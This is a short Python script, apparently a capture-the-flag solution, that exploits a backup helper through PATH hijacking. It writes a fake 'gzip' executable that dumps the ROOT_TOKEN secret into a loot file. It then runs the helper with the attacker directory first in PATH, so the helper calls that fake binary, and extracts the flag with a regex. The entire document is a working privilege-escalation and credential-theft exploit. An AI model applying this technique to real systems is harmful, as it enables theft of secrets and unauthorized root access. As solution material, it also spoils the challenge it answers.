import re
def flag(text):
    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))

import os, stat, subprocess
os.makedirs("/work/evil", exist_ok=True)
with open("/work/evil/gzip", "w") as f:
    f.write("#!/bin/sh\necho $ROOT_TOKEN > /work/loot.txt\n")
os.chmod("/work/evil/gzip", 0o755)
out = subprocess.run(["python3", "/work/bin/backup-helper.py"], capture_output=True, text=True,
                     env={**os.environ, "PATH": "/work/evil:" + os.environ["PATH"]})
flag(open("/work/loot.txt").read())
